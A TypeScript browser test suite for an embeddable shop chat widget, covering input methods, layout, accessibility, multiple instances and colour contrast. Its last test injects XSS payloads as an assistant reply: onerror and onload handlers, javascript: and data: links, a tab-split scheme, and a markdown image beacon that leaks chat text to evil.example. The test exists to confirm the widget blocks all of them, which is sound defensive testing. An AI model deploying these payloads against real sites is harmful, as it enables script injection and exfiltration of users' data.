import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type ShopServer, startShopServer } from './shop-server.ts';
import { CALM_REPLY, SlowModel } from './slow-model.ts';
import {
  hasBrowser,
  hostPage,
  openBrowser,
  openPage,
  screenshot,
  widgetOf,
} from './widget-page.ts';

const wordMs = 10;

describe.skipIf(!hasBrowser)('the widget, whatever happens', () => {
  let browser: Browser;
  let shop: ShopServer;

  beforeAll(async () => {
    const models = [{ name: 'slow', model: new SlowModel(CALM_REPLY, () => wordMs) }];
    [browser, shop] = await Promise.all([openBrowser(), startShopServer({ inputs: { models } })]);
    shop.pages.set('/host/plain', { html: hostPage() });
  });
  afterAll(async () => {
    await browser?.close();
    await shop?.stop();
  });

  const bubbles = (page: Page) =>
    page
      .locator('dragoman-chat article .words')
      .evaluateAll((all) => all.map((one) => one.textContent));

  test('keeps an open call and what comes before the panel', async () => {
    const { page } = await openPage(browser, shop, '/host/plain');
    const seen = await page.evaluate(() => {
      const chat = document.querySelector('dragoman-chat');
      const events: string[] = [];
      Object.assign(window, { events });
      for (const name of ['ready', 'open', 'close', 'message', 'unread'])
        document.addEventListener(name, (event) =>
          events.push(`${name}:${JSON.stringify(Reflect.get(event, 'detail'))}`),
        );
      chat?.open();
      chat?.prefill('early words');
      return events.length;
    });
    expect(seen).toBe(0);
    const widget = widgetOf(page);
    await expect.poll(() => widget.box.inputValue()).toBe('early words');
    await page.evaluate(() => document.querySelector('dragoman-chat')?.close());
    await expect.poll(() => widget.panel.count()).toBe(0);
    expect(await page.evaluate(() => Reflect.get(window, 'events'))).toEqual(
      expect.arrayContaining(['open:null', 'ready:{"locale":"en"}', 'close:null']),
    );
    await page.evaluate(() => document.querySelector('dragoman-chat')?.sendMessage('secret words'));
    const events = await page.evaluate(() => Reflect.get(window, 'events').join());
    expect(events).toContain('message:');
    expect(events).not.toContain('secret');
  });

  test('sends nothing while an input method composes', async () => {
    const { page } = await openPage(browser, shop, '/host/plain');
    const widget = widgetOf(page);
    await widget.open();
    await widget.box.focus();
    const client = await page.context().newCDPSession(page);
    await client.send('Input.imeSetComposition', {
      text: 'にほん',
      selectionStart: 3,
      selectionEnd: 3,
    });
    await client.send('Input.dispatchKeyEvent', {
      type: 'rawKeyDown',
      key: 'Enter',
      code: 'Enter',
      windowsVirtualKeyCode: 229,
    });
    await page.waitForTimeout(100);
    expect(await widget.messages.count()).toBe(0);
    await client.send('Input.insertText', { text: '日本' });
    await widget.box.press('Enter');
    await expect.poll(async () => (await bubbles(page))[0]).toBe('日本');
  });

  test('lets nothing run over, at 320 pixels', async () => {
    const { page } = await openPage(browser, shop, '/host/plain', {
      viewport: { width: 320, height: 640 },
    });
    const widget = widgetOf(page);
    await widget.open();
    await widget.say('Hello');
    await widget.host.locator('article.assistant .words').waitFor();
    const id = await page.evaluate(
      () => JSON.parse(localStorage.getItem('dragoman:') ?? '').conversation.id,
    );
    const texts = [
      'W'.repeat(400),
      '9'.repeat(40),
      `| ${'wide '.repeat(8)} | b | c | d | e |\n|---|---|---|---|---|\n| 1 | 2 | 3 | 4 | 5 |`,
      '👩‍👩‍👧‍👦'.repeat(30),
      'a\u200b\u200d\ufeffb',
      'word '.repeat(1000),
    ];
    for (const [index, text] of texts.entries()) {
      const message = { messageId: `msg_${index}`, author: 'assistant' as const };
      await shop.services.log.append(id, [
        { type: 'message-start', ...message },
        { type: 'message-end', ...message, text },
      ]);
    }
    await expect.poll(() => widget.messages.count()).toBe(texts.length + 2);
    await screenshot(page, 'overflow-320');
    const over = await widget.log.evaluate((log) => [
      log.scrollWidth - log.clientWidth,
      document.documentElement.scrollWidth - innerWidth,
    ]);
    expect(over).toEqual([0, 0]);
  });

  test('tells a screen reader each reply once, never history, and keeps the focus where it belongs', async () => {
    const { page } = await openPage(browser, shop, '/host/plain');
    const widget = widgetOf(page);
    await widget.open();
    await widget.say('Hello');
    const spoken = () => widget.host.locator('.unseen [role=log] p').allTextContents();
    await expect.poll(spoken, { timeout: 20_000 }).toHaveLength(1);
    expect((await spoken())[0]).toContain('AI assistant');
    expect(await widget.log.getAttribute('aria-live')).toBe(null);
    expect(await widget.box.evaluate((box) => box.matches(':focus'))).toBe(true);
    await page.keyboard.press('F6');
    expect(await widget.log.evaluate((log) => log.matches(':focus'))).toBe(true);
    await page.keyboard.press('Escape');
    await expect
      .poll(() => widget.launcher.evaluate((button) => button.matches(':focus')))
      .toBe(true);
    await page.reload();
    await widget.open();
    await widget.host.locator('article.assistant .words').waitFor();
    expect(await spoken()).toEqual([]);
  });

  test('covers a small screen, and gives everything back', async () => {
    const { page } = await openPage(browser, shop, '/host/plain', {
      viewport: { width: 320, height: 256 },
      hasTouch: true,
    });
    const widget = widgetOf(page);
    await widget.open();
    await expect.poll(() => page.locator('main').getAttribute('inert')).toBe('');
    expect(await widget.launcher.isVisible()).toBe(false);
    const box = await widget.panel.boundingBox();
    expect([box?.width, box?.height]).toEqual([320, 256]);
    expect(await widget.box.evaluate((area) => getComputedStyle(area).fontSize)).toBe('16px');
    await screenshot(page, 'smallest');
    await page.goBack();
    await expect.poll(() => widget.panel.count()).toBe(0);
    expect(await page.locator('main').getAttribute('inert')).toBe(null);
    expect(await page.evaluate(() => document.documentElement.style.overflow)).toBe('');
  });

  test('is there once for a shop, and once for each of two, and keeps its keys to itself', async () => {
    shop.pages.set('/host/twice', {
      html: hostPage({
        tag: '<script src="/widget.js" data-store="a" defer></script><script src="/widget.js" data-store="a" defer></script><script src="/widget.js" data-store="b" defer></script>',
      }),
    });
    const { page } = await openPage(browser, shop, '/host/twice');
    await page.evaluate(() => {
      Object.assign(window, { keys: '' });
      document.addEventListener('keydown', ({ key }) =>
        Reflect.set(window, 'keys', Reflect.get(window, 'keys') + key),
      );
    });
    const launchers = page.locator('dragoman-chat button[part=launcher]');
    expect(await launchers.count()).toBe(2);
    const [first, second] = await Promise.all([
      launchers.nth(0).boundingBox(),
      launchers.nth(1).boundingBox(),
    ]);
    expect(Math.abs((first?.x ?? 0) - (second?.x ?? 0))).toBeGreaterThan(56);
    await launchers.nth(1).click();
    const second_box = page.locator('dragoman-chat').nth(1).locator('textarea');
    await second_box.pressSequentially('jk');
    await second_box.press('Enter');
    await expect.poll(() => page.evaluate(() => Object.keys(localStorage))).toEqual(['dragoman:b']);
    expect(await page.evaluate(() => Reflect.get(window, 'keys'))).toBe('');
    await page.evaluate(() => {
      const element = document.querySelector('dragoman-chat[store=b]');
      element?.remove();
      if (element) document.body.append(element);
    });
    await expect.poll(() => page.locator('dragoman-chat[store=b] textarea').count()).toBe(1);
  });

  test('makes an accent readable, and says so', async () => {
    shop.pages.set('/host/yellow', {
      html: hostPage({
        head: '<style>dragoman-chat{--dragoman-accent:#777a00;--dragoman-on-accent:#999}</style>',
      }),
    });
    const { page, problems } = await openPage(browser, shop, '/host/yellow', {
      forcedColors: 'active',
    });
    const widget = widgetOf(page);
    await widget.open();
    await expect.poll(() => problems.join()).toContain('4.5 : 1');
    await screenshot(page, 'forced-colours');
  });

  test('runs no script and asks for nothing, whatever a reply says', async () => {
    const { page, problems } = await openPage(browser, shop, '/host/plain');
    const widget = widgetOf(page);
    await widget.open();
    await widget.say('Hello');
    await widget.host.locator('article.assistant .words').waitFor();
    const id = await page.evaluate(
      () => JSON.parse(localStorage.getItem('dragoman:') ?? '').conversation.id,
    );
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    const attack = [
      '<img src=x onerror="window.hacked=1">',
      '![beacon](https://evil.example/?chat=secret)',
      '[click](javascript:window.hacked=1) [tab](java\tscript:window.hacked=1) [data](data:text/html,<script>)',
      '<svg onload="window.hacked=1">',
      ...['*', '`', '[', '[a](', '_a'].map((opener) => opener.repeat(20_000 / opener.length)),
    ].join('\n\n');
    const message = { messageId: 'msg_attack', author: 'assistant' as const };
    await shop.services.log.append(id, [{ type: 'message-start', ...message }]);
    for (let end = 0; end < attack.length; end += 4000)
      shop.services.log.publishDelta(id, message.messageId, attack.slice(end, end + 4000));
    await shop.services.log.append(id, [{ type: 'message-end', ...message, text: attack }]);
    await widget.host.getByText('beacon').first().waitFor();
    expect(
      await widget.host.locator('article img, article svg:not(.icon), article script').count(),
    ).toBe(0);
    expect(await widget.host.locator('article a').count()).toBe(0);
    expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBe(undefined);
    expect(requests).toEqual([]);
    expect(problems).toEqual([]);
  });
});
